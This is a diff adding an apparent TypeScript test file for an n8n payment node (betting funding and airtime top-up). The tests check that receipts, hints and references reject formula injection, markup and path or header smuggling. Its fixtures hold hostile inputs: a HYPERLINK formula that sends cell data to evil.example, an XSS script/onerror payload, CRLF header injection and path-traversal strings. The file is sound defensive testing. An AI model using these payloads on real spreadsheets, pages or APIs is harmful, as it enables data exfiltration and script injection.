@@ -1,0 +1,97 @@
+import { goOn, receipts, said, useBench } from './help';
+
+const bench = useBench();
+
+const formula = '=HYPERLINK("https://evil.example?"&A1,"Receipt")';
+const script = '<script>alert(1)</script><img src=x onerror=alert(1)>';
+
+const betting = {
+	resource: 'betting',
+	operation: 'fund',
+	bettingId: '={{ $json.company }}',
+	customerId: '={{ $json.customer }}',
+	amount: 500,
+};
+const airtime = {
+	resource: 'airtime',
+	operation: 'buy',
+	phone: '={{ $json.phone }}',
+	amount: 500,
+};
+const answersWith = (path: string, change: Record<string, string>) =>
+	bench().simulator.addFaults({ path, fault: { kind: 'reword', change } });
+
+describe('Texts from outside that would run where they are shown', () => {
+	it('a formula of whoever ordered, or of the provider, stays a text in a sheet', async () => {
+		answersWith('/api/fund/betting', { message: formula });
+		const result = await bench().run({
+			parameters: betting,
+			rows: [{ company: formula, customer: '1001' }],
+			node: goOn,
+		});
+		const cells = receipts(result)
+			.flatMap((receipt) => Object.values(receipt))
+			.filter((cell) => typeof cell === 'string');
+		expect(cells.filter((cell) => /^\s*[=+@-]/.test(cell))).toEqual([]);
+		expect(JSON.stringify(cells)).toContain(`'=`);
+		// The provider is sent what was meant.
+		expect(bench().simulator.stats().requests['POST /api/fund/betting']).toBe(1);
+	});
+
+	it('markup of the provider is in no hint, which n8n shows as markup', async () => {
+		answersWith('/api/topup', { message: script });
+		bench().simulator.addFaults({
+			path: '/api/topup',
+			contains: '8030000002',
+			fault: { kind: 'refuse', message: `Number Block ${script}` },
+		});
+		const result = await bench().run({
+			parameters: airtime,
+			rows: [{ phone: '08030000001' }, { phone: '08030000002' }],
+			node: goOn,
+		});
+		expect(receipts(result)).toHaveLength(2);
+		expect(result.hints.length).toBeGreaterThan(0);
+		expect(JSON.stringify(result.hints)).not.toMatch(/[<>]|alert/);
+	});
+});
+
+describe('A reference that would be more than one', () => {
+	it.each([
+		'a\r\nX-Admin: 1',
+		'a\nb',
+		'../user',
+		'..',
+		'%2e%2e/user',
+		'a?amount=1',
+		'a#b',
+		'a/b',
+		'a\\b',
+		'a\u0000',
+		'a b',
+		'\u202er-1',
+	])('%j is refused before anything is sent', async (own) => {
+		const result = await bench().run({
+			parameters: { ...airtime, repeatProtection: 'reference', reference: '={{ $json.own }}' },
+			rows: [{ phone: '08030000001', own }],
+			node: goOn,
+		});
+		expect(result.requests).toEqual([]);
+		expect(said(result)).toMatch(/'?Reference'?|reference/);
+		expect(bench().simulator.ledger()).toEqual([]);
+	});
+
+	it.each([
+		['../user', '/api/requery/..%2Fuser'],
+		['%2e%2e', '/api/requery/%252e%252e'],
+		['a?b=c#d', '/api/requery/a%3Fb%3Dc%23d'],
+		['a/b', '/api/requery/a%2Fb'],
+	])('%j is looked up in its own place', async (reference, path) => {
+		const result = await bench().run({
+			parameters: { resource: 'transaction', operation: 'requery', reference },
+			rows: [{}],
+			node: goOn,
+		});
+		expect(result.requests.map(({ path: asked }) => asked)).toEqual([path]);
+	});
+});
